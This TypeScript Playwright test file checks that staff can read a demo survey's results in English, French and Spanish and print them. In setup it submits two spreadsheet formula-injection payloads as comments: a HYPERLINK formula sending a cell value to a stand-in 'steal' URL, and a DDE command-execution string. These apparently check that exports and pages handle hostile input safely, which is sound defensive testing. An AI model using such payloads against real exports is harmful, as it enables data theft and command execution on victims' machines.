// A staff member reads the results of the demo survey (filled by `npm run demo`) in a browser
// against the real server: in English, French and Spanish, and printed.
import { expect } from 'chai';
import type { Browser, Page } from 'playwright-core';
import { DEMO_MEMBER_STATES } from '../../db/seeds/demo-content.js';
import { en } from '../../server/i18n/en.js';
import { resultsCatalogue } from '../../server/i18n/areas/results.js';
import { closeSessions, launchBrowser, openSession, takeScreenshot, type Session, type SessionOptions } from './helpers/browser.js';
import { clickAndWait, heading, htmlLang, untranslatedKeys } from './helpers/pages.js';
import { answerAsDelegate, signedInState, STAFF, startDemoServer, SURVEY, type DemoServer } from './helpers/demo.js';
import type { RunningServer } from './helpers/server.js';

const NAMESPACES = [...Object.keys(en), 'voting'];
const FORMULA_COMMENTS = ['=HYPERLINK("https://example.org/steal?d="&A1,"Open")', '@SUM(1+1)*cmd|\' /C calc\'!A0'];
/** Fills in an i18n message's {{placeholders}} as the server does. */
function message(template: string, values: Record<string, string | number>): string {
  return template.replace(/\{\{(\w+)\}\}/g, (_, name: string) => String(values[name]));
}

const squash = (text: string) => text.replace(/\s+/g, ' ').trim();

describe('Results journey in a browser', function () {
  let server: RunningServer;
  let browser: Browser;
  let sessions: Session[] = [];
  let staffState: SessionOptions['storageState'];
  let demoOutput = '';
  let surveyId = 0;

  async function open(options: SessionOptions = {}): Promise<Session> {
    const session = await openSession(browser, server.baseUrl, { storageState: staffState, ...options });
    sessions.push(session);
    return session;
  }

  /** The staff member's language is saved with the account: each test starts from English. */
  async function inEnglish(page: Page): Promise<void> {
    await clickAndWait(page, page.locator('header button[value="en"]'));
    expect(await htmlLang(page)).to.equal('en');
  }

  async function look(page: Page, name: string): Promise<void> {
    await takeScreenshot(page, name);
    expect(await untranslatedKeys(page, NAMESPACES), `untranslated text on ${name}`).to.deep.equal([]);
  }

  before(async function () {
    let demo: DemoServer;
    [demo, browser] = await Promise.all([startDemoServer(), launchBrowser()]);
    ({ server, output: demoOutput } = demo);
    expect(demoOutput).to.match(new RegExp(`staff\\s+${STAFF.email.replace(/\./g, '\\.')}\\s+password: ${STAFF.password}`));
    // A delegation the demo left without a ballot answers, with comments that look like formulas.
    await answerAsDelegate(browser, server.baseUrl, demo.surveyId, { perQuestion: FORMULA_COMMENTS });
    staffState = await signedInState(browser, server.baseUrl, STAFF);
  });

  afterEach(async function () {
    await closeSessions(sessions, this.currentTest, 'failed-results');
    sessions = [];
  });

  after(async function () {
    await browser?.close();
    await server?.stop();
  });

  it('opens the open demo survey\'s results from the survey list: provisional stamp, turnout, retained options, comparison', async function () {
    const { page } = await open();
    await page.goto('/admin/surveys');
    // The demo staff member works in French: the switcher brings English back.
    expect(await htmlLang(page)).to.equal('fr');
    await inEnglish(page);
    await clickAndWait(page, page.getByRole('link', { name: SURVEY.title.en }));
    await clickAndWait(page, page.getByRole('link', { name: 'Results', exact: true }));
    surveyId = Number(/^\/surveys\/(\d+)\/results$/.exec(new URL(page.url()).pathname)?.[1]);
    expect(demoOutput).to.contain(`survey ${surveyId} "${SURVEY.title.en}" (${SURVEY.reference}) open`);

    const r = resultsCatalogue.en.results;
    expect(await heading(page)).to.equal(message(r.page.title, { survey: SURVEY.title.en }));
    const stamp = page.locator('.results-head .stamp');
    expect(await stamp.getAttribute('class')).to.contain('stamp-provisional');
    expect(squash((await stamp.textContent()) ?? '')).to.equal(`${r.stamp.provisional} — ${r.stamp.provisionalNote}`);
    expect(await page.locator('.results-head').innerText()).to.contain(message(r.page.reference, { reference: SURVEY.reference }));

    const demoBallots = Number(/open, with (\d+) ballots/.exec(demoOutput)?.[1]);
    const eligible = DEMO_MEMBER_STATES.filter((m) => m.status === 'member').length;
    expect(await page.locator('#summary-heading').innerText()).to.equal(r.page.summaryHeading);
    expect(squash(await page.locator('.turnout').innerText()))
      .to.match(new RegExp(`^${message(r.page.turnout, { answered: demoBallots + 1, eligible, share: '@' }).replace(/[.()]/g, '\\$&').replace('@', '\\d+(\\.\\d)? ?%')}$`));
    // The summary says, per question, what is retained, before any detail.
    expect(await page.locator('.results-summary .question-summary').count()).to.equal(SURVEY.questions.length);

    const questions = page.locator('section.question-result');
    expect(await questions.count()).to.equal(SURVEY.questions.length);
    for (const [i, q] of SURVEY.questions.entries()) {
      const section = questions.nth(i);
      expect(squash(await section.locator('h2').innerText())).to.equal(`${message(r.page.questionNumber, { number: i + 1 })} ${q.title.en}`);
      expect(await section.getByRole('heading', { name: r.page.retainedHeading, exact: true }).count()).to.equal(1);
      const retained = (await section.locator('ol.retained > li').allInnerTexts()).map(squash);
      expect(retained, `question ${i + 1} retains its seats`).to.have.length(q.seats);
      for (const text of retained) expect(q.options.map((o) => `${o.label} ${o.title.en}`)).to.include(text);

      expect(await section.getByRole('heading', { name: r.comparison.heading, exact: true }).count()).to.equal(1);
      // The details are one click away: the comparison opens from its summary, without script.
      const table = section.locator('table.comparison');
      expect(await table.isVisible()).to.equal(false);
      await section.locator('summary', { hasText: r.comparison.heading }).click();
      expect(await table.isVisible()).to.equal(true);
      expect(squash(await table.locator('caption').innerText())).to.equal(r.comparison.caption);
      expect((await table.locator('thead th').allInnerTexts()).map(squash))
        .to.deep.equal([r.comparison.method, r.comparison.retained, r.comparison.agrees, r.comparison.lot]);
      const rows = table.locator('tbody tr');
      expect(await rows.count()).to.be.greaterThanOrEqual(4);
      const official = table.locator('tbody tr.official');
      expect(await official.count()).to.equal(1);
      const officialRetained = await official.locator('td').first().innerText();
      for (const text of retained) expect(officialRetained).to.contain(text.replace(/^\S+ /, ''));
      expect((await section.locator('.comparison-summary').innerText()).trim()).to.not.equal('');
    }
    await look(page, 'results-01-en');
  });

  it('reads the results in French and in Spanish through the language switcher', async function () {
    const { page } = await open();
    await page.goto(`/surveys/${surveyId}/results`);
    await inEnglish(page);
    for (const lang of ['fr', 'es'] as const) {
      await clickAndWait(page, page.locator(`header button[value="${lang}"]`));
      expect(new URL(page.url()).pathname).to.equal(`/surveys/${surveyId}/results`);
      expect(await htmlLang(page)).to.equal(lang);
      const r = resultsCatalogue[lang].results;
      expect(await heading(page)).to.equal(message(r.page.title, { survey: SURVEY.title[lang] }));
      expect(squash((await page.locator('.results-head .stamp').textContent()) ?? '')).to.equal(squash(`${r.stamp.provisional} — ${r.stamp.provisionalNote}`));
      expect(await page.locator('#summary-heading').innerText()).to.equal(r.page.summaryHeading);
      const first = page.locator('section.question-result').first();
      expect(squash(await first.locator('h2').innerText())).to.equal(squash(`${message(r.page.questionNumber, { number: 1 })} ${SURVEY.questions[0]!.title[lang]}`));
      for (const name of [r.page.retainedHeading, r.first.heading, r.pairwise.heading, r.borda.heading, r.comparison.heading]) {
        expect(await first.getByRole('heading', { name, exact: true }).count(), `${lang}: ${name}`).to.equal(1);
      }
      expect(squash((await first.locator('table.comparison caption').textContent()) ?? '')).to.equal(r.comparison.caption);
      // The retained options are shown in the page's language.
      const retained = (await first.locator('ol.retained > li').allInnerTexts()).map(squash);
      const titles = SURVEY.questions[0]!.options.map((o) => `${o.label} ${o.title[lang]}`);
      for (const text of retained) expect(titles).to.include(text);
      await look(page, `results-02-${lang}`);
    }
    await inEnglish(page);
  });

  it('prints the results without the navigation, the stamp kept', async function () {
    const { page } = await open();
    await page.goto(`/surveys/${surveyId}/results`);
    await inEnglish(page);
    const header = page.locator('header.site-header');
    const stamp = page.locator('.results-head .stamp');
    const questionsNav = page.locator('main nav');
    const hint = page.locator('.print-hint');
    expect(await header.isVisible()).to.equal(true);
    expect(await questionsNav.isVisible()).to.equal(true);
    expect(await hint.isVisible()).to.equal(true);
    await page.emulateMedia({ media: 'print' });
    expect(await header.isVisible(), 'header printed').to.equal(false);
    expect(await questionsNav.isVisible(), 'questions navigation printed').to.equal(false);
    expect(await hint.isVisible(), 'print hint printed').to.equal(false);
    expect(await stamp.isVisible(), 'stamp printed').to.equal(true);
    expect(await page.evaluate<string>(`getComputedStyle(document.querySelector('.results-head .stamp')).borderTopStyle`)).to.equal('dashed');
    // Every detail section prints open, though none was opened on screen.
    for (const table of await page.locator('table.data').all()) expect(await table.isVisible(), 'a table printed').to.equal(true);
    expect(await page.locator('pre.replay').first().isVisible()).to.equal(true);
    await takeScreenshot(page, 'results-03-print');
    await page.emulateMedia({ media: 'screen' });
    expect(await header.isVisible()).to.equal(true);
    expect(await page.locator('table.comparison').first().isVisible()).to.equal(false);
  });
});
